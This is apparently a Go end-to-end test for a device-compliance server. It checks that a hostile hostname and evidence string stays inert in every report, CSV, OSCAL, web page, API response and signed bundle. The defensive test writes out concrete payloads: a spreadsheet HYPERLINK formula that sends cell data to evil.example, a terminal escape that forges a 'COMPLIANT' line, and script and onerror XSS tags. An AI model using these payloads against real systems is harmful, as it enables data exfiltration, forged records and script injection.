package e2e

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/x509"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/evident-dev/evident/server/bundle"
	"github.com/evident-dev/evident/server/controls"
	"github.com/evident-dev/evident/server/oscal"
	"github.com/evident-dev/evident/server/period"
	"github.com/evident-dev/evident/server/pki"
	"github.com/evident-dev/evident/server/report"
	"github.com/evident-dev/evident/server/states"
	"github.com/evident-dev/evident/server/store"
	"github.com/evident-dev/evident/server/store/sqlite"
	"github.com/evident-dev/evident/server/web"
)

// hostile is what a device controls, at its worst: a spreadsheet formula,
// a terminal escape that erases the line and forges another, HTML, a
// bidirectional override and bulk.
const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"click")` + "\x1b[2K\rDevice forged (dev_x): COMPLIANT\n" +
	`<script>alert(1)</script><img src=x onerror=alert(2)>` + "\u202eevil" + "\x07"

// TestHostileDeviceEveryFormat: a device whose hostname, OS version,
// evidence payload, excerpt and the reasons built from them carry hostile
// strings (stored as an older server or a reason built from an excerpt
// would store them; enrollment now refuses such host fields) is inert in
// every output: the text reports, both CSVs, the JSON reports, OSCAL, the
// web pages and API, and the evidence bundle.
func TestHostileDeviceEveryFormat(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	st, err := sqlite.Open(filepath.Join(dir, "evident.db"), false)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	t0 := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	if _, err := st.EnrollDevice(ctx, store.Device{ID: "dev-h", Hostname: hostile, OSVersion: hostile, GOOS: "linux", EnrolledAt: t0}); err != nil {
		t.Fatal(err)
	}
	payload, _ := json.Marshal(map[string]string{"pretty_name": hostile})
	sources, _ := json.Marshal([]map[string]string{{"kind": "file", "ref": "/etc/os-release", "excerpt": hostile}})
	if _, err := st.Ingest(ctx, "dev-h", []store.Observation{{Seq: 1, Collector: "osinfo", CollectedAt: t0, Status: "ok", Error: hostile,
		Payload: payload, Sources: sources}}, t0.Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	pol := controls.Default()
	for _, c := range pol.Controls {
		if err := states.Record(ctx, st, "dev-h", []store.ControlState{{ControlID: c.ID, Status: store.Fail, Reason: hostile, EvidenceSeq: 1,
			Evidence: json.RawMessage(payload)}}, nil, t0.Add(time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	now := t0.Add(20 * 24 * time.Hour)
	outputs := map[string][]byte{}
	add := func(name string, f func(io.Writer) error) {
		t.Helper()
		var b bytes.Buffer
		if err := f(&b); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		outputs[name] = b.Bytes()
	}
	rep, err := period.Build(ctx, st, pol, period.Options{From: t0, To: now, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	add("period text", func(w io.Writer) error { return period.WriteText(w, rep) })
	add("period csv", func(w io.Writer) error { return period.WriteCSV(w, rep) })
	add("period summary csv", func(w io.Writer) error { return period.WriteSummaryCSV(w, rep) })
	add("period json", func(w io.Writer) error { return period.WriteJSON(w, rep) })
	add("oscal", func(w io.Writer) error { return oscal.Write(w, rep) })
	fleet, err := report.Build(ctx, st, pol, report.Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	add("report text", func(w io.Writer) error { return report.WriteText(w, fleet) })
	add("report json", func(w io.Writer) error { return report.WriteJSON(w, fleet) })

	// The web pages and API, logged in as an auditor.
	tok, tokID, hash := web.NewToken()
	if err := st.CreateToken(ctx, store.Token{ID: tokID, Hash: hash, Role: store.RoleAuditor, Label: "auditor", CreatedAt: now}); err != nil {
		t.Fatal(err)
	}
	h, err := web.New(web.Config{Store: st, Policy: pol, Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	get := func(path string, hdr ...string) []byte {
		t.Helper()
		req, _ := http.NewRequest("GET", srv.URL+path, nil)
		for i := 0; i+1 < len(hdr); i += 2 {
			req.Header.Set(hdr[i], hdr[i+1])
		}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d\n%s", path, resp.StatusCode, b)
		}
		return b
	}
	login := get("/login")
	csrf := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindSubmatch(login)
	if csrf == nil {
		t.Fatal("no login form")
	}
	if resp, err := c.PostForm(srv.URL+"/login", url.Values{"csrf": {string(csrf[1])}, "token": {tok}, "next": {"/"}}); err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("login: %v", err)
	}
	outputs["web devices"] = get("/devices")
	outputs["web device"] = get("/devices/dev-h")
	outputs["web period"] = get("/period?from=2026-03-01&to=2026-03-21")
	outputs["web period csv"] = get("/period.csv?from=2026-03-01&to=2026-03-21")
	outputs["api device"] = get("/api/v1/devices/dev-h", "Authorization", "Bearer "+tok)

	// The evidence bundle.
	ca, err := pki.LoadOrCreate(filepath.Join(dir, "pki"))
	if err != nil {
		t.Fatal(err)
	}
	key, cert, err := ca.EvidenceSigner(filepath.Join(dir, "pki"))
	if err != nil {
		t.Fatal(err)
	}
	var bb bytes.Buffer
	if _, err := bundle.Write(ctx, &bb, st, key.(*ecdsa.PrivateKey), bundle.Options{Now: now, From: t0, To: now, Certificates: []*x509.Certificate{cert, ca.Cert}}); err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(&bb)
	for {
		hd, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(tr)
		if strings.HasSuffix(hd.Name, ".json") || strings.HasSuffix(hd.Name, ".jsonl") {
			outputs["bundle "+hd.Name] = b
		}
	}

	for name, out := range outputs {
		s := string(out)
		if name != "period summary csv" && !strings.Contains(s, "HYPERLINK") {
			t.Errorf("%s: the hostile string is not there at all; the test checks nothing", name)
		}
		raw := "\x1b\x07\r\u202e"
		if strings.HasPrefix(name, "bundle ") {
			// The bundle is evidence, verified byte for byte: JSON
			// escapes its control characters, and a bidirectional
			// character stays as the device sent it.
			raw = "\x1b\x07\r"
		}
		if strings.ContainsAny(s, raw) {
			t.Errorf("%s: a raw control, escape or bidirectional character", name)
		}
		if strings.Contains(s, "\nDevice forged") {
			t.Errorf("%s: a forged line", name)
		}
		if strings.HasPrefix(name, "web ") && !strings.HasSuffix(name, "csv") &&
			(strings.Contains(s, "<script>alert(1)") || strings.Contains(s, "<img src=x")) {
			t.Errorf("%s: raw HTML", name)
		}
		if strings.HasSuffix(name, "csv") {
			rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: a cell a spreadsheet would run: %.40q", name, cell)
					}
				}
			}
		}
	}
}
